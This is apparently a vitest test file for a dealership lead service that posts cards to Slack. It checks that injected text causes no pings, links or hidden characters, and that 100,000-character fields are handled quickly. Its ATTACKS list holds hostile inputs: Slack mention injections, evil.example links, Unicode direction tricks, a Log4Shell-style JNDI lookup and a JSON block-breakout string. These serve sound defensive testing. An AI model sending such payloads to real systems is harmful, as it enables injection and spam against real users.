import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { groupOf } from '../../src/dealership/group.js';
import { directory } from '../../src/dealership/people.js';
import { understand } from '../../src/intake/understand.js';
import { leadCard } from '../../src/leads/card.js';
import { links, pings } from '../../src/sandbox/slack/index.js';
import { parse } from '../support/bodies.js';
import { everyMessage } from '../support/everything.js';
import { fastest } from '../support/fastest.js';
import { leadWith } from '../support/lead.js';
import { jsonLead } from '../support/leads.js';
import { configFor, type Running } from '../support/running.js';
import { card, cardsOf, type Message, plainly, privately, sendLead, whispered, words } from '../support/seen.js';
import { nthSite, PEOPLE, runTown } from '../support/town.js';

/** One attack at a time: together they might hide one another. */
const ATTACKS = [
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S0TEAM>',
  '<!date^1392734382^{date}^https://evil.example|soon>',
  '<@U0SELLER1>',
  '<@U0SELLER1|Vendeur>',
  '<#C0TOWN1>',
  '@channel @here @everyone',
  '<https://evil.example|Bank>',
  '<mailto:x@evil.example|write>',
  '<tel:+33639980000|call>',
  'https://evil.example/a?b=c&d=e',
  'evil.example/path www.evil.example',
  'x@evil.example',
  '[Bank](https://evil.example)',
  '&lt;!channel&gt; &amp;lt;!channel&amp;gt;',
  '&#60;!channel&#62;',
  '< !channel> <! channel> <!channel',
  '<<!channel>>',
  '\u200b<!channel>\u200b',
  '<\u200b!channel>',
  '`code` ```block``` *bold* _italic_ ~struck~',
  '> quote\n>>> all',
  ':tada: :skull:',
  '\u202e>lennahc!<\u202c',
  '\u2066<!channel>\u2069 \u200f\u061c',
  'a\u0000<!channel>\u0000',
  '\ud83d <!channel> \ude00',
  '<!channel>'.repeat(500),
  `${'x'.repeat(2_999)}<!channel>`,
  `${'👩‍👩‍👧‍👦'.repeat(600)}<https://evil.example|x>`,
  `${'&'.repeat(5_000)}`,
  `{{DATE(2026)}} \${jndi:ldap://evil.example} #{7*7}`,
  '"}],"type":"section","text":{"type":"mrkdwn","text":"<!channel>"},{"',
];

let house: Running;
beforeAll(async () => {
  house = await runTown();
});
afterAll(() => house?.stop());

function expectHarmless(message: Message): void {
  expect(pings(message)).toEqual([]);
  expect(links(message).filter((link) => !/^(tel:\+33639985678|mailto:brigitte\.moreau@example\.org)$/.test(link))).toEqual([]);
  expect(JSON.stringify(message)).not.toMatch(/\\u0000|\\ud[89a-f]|[\u202a-\u202e\u2066-\u2069]/);
}

describe('S10: text that would ping, link or format', () => {
  it.each(ATTACKS.map((attack, n) => [attack.slice(0, 40), n] as const))(
    '%j: 0 pings, 0 links, on the card, in private, in the history',
    async (_, n) => {
      const attack = ATTACKS[n] ?? '';
      const { id: dealership, channel } = nthSite(n);
      const user = PEOPLE[n % PEOPLE.length]?.user ?? '';
      const car = Object.fromEntries(
        ['make', 'model', 'version', 'stockNumber', 'vin', 'plate', 'comments', 'url'].map((key) => [key, attack]),
      );
      const customer = {
        name: attack,
        firstName: attack,
        lastName: attack,
        city: attack,
        company: attack,
        preferredContact: attack,
        consent: { text: attack },
      };
      const id = await sendLead(
        house,
        jsonLead({ dealership, customer, interest: car, tradeIn: car, message: attack, page: attack, campaign: attack }),
      );
      const shown = await card(house, channel, id);
      const press = (action_id: string) => house.slack.as(user).click({ channel, ts: shown.ts, action_id });
      expect(await press('claim.take')).toEqual({ ok: true });
      await whispered(house, user, "C'est à vous");
      const claimed = await card(house, channel, id, (one) => plainly(words(one)).includes('Pris par'));
      for (const action of ['lead.history', 'lead.contact']) {
        const heard = privately(house, user).length;
        expect(await press(action)).toEqual({ ok: true });
        await house.slack.until(() => privately(house, user).length > heard, 20_000);
      }
      for (const message of [shown, claimed, ...cardsOf(house, channel, id), ...privately(house, user)]) expectHarmless(message);
    },
  );

  it('of all messages there are, none pings or links', () => {
    const all = everyMessage(house);
    expect(all.length).toBeGreaterThan(3 * ATTACKS.length);
    for (const message of all) expectHarmless(message);
  });
});

describe('S18: 100,000 characters where ten are expected', () => {
  const config = configFor('http://127.0.0.1:9/api/');
  const group = groupOf(config.group.name, config.dealerships, directory(config.people, config.dealerships), config.sources);
  const [source, lyon] = [config.sources[0] ?? expect.unreachable(), config.dealerships[0] ?? expect.unreachable()];
  const long = (atom: string) => atom.repeat(Math.ceil(100_000 / atom.length)).slice(0, 100_000);

  /** From bytes to the card's words. */
  async function understood(body: string): Promise<void> {
    const received = new Date();
    const [lead] = understand(await parse(Buffer.from(body), 'application/json'), source, group, received);
    if (!lead) expect.unreachable('a body was lost');
    leadCard(leadWith(lead), lyon, source.name, []);
  }

  const fields: [string, (text: string) => string][] = [
    ['phone', (text) => JSON.stringify({ customer: { phone: text } })],
    ['e-mail', (text) => JSON.stringify({ customer: { email: text } })],
    ['plate', (text) => JSON.stringify({ tradeIn: { plate: text } })],
    ['name', (text) => JSON.stringify({ customer: { name: text } })],
    ['price', (text) => JSON.stringify({ interest: { price: text, year: text, mileage: text } })],
    ['date', (text) => JSON.stringify({ requestedAt: text })],
    ['message', (text) => JSON.stringify({ message: text })],
  ];
  const atoms = [
    '0',
    '+33 6 ',
    '(',
    '0 ',
    '0-',
    'a@',
    'a.',
    '@',
    'a',
    ' ',
    '\u00a0',
    'AB-123-CD ',
    '😀',
    '<',
    'e\u0301',
    'ou ',
    '/',
    '1e',
    '.',
    ',',
  ];

  it.each(fields)('%s: understood and drawn within 50 ms, whatever they are', async (_, frame) => {
    for (const atom of atoms) {
      const took = await fastest(50, () => understood(frame(long(atom))));
      expect(took, `${atom} × ${100_000 / atom.length}`).toBeLessThan(50);
    }
  });

  it('all of them at once are answered like any other enquiry', async () => {
    const text = long('0 ');
    const body = JSON.stringify({
      dealership: nthSite(40).id,
      customer: { name: text, phone: text, email: text },
      tradeIn: { plate: text },
    });
    expect(await fastest(500, () => sendLead(house, body))).toBeLessThan(500);
  });
});
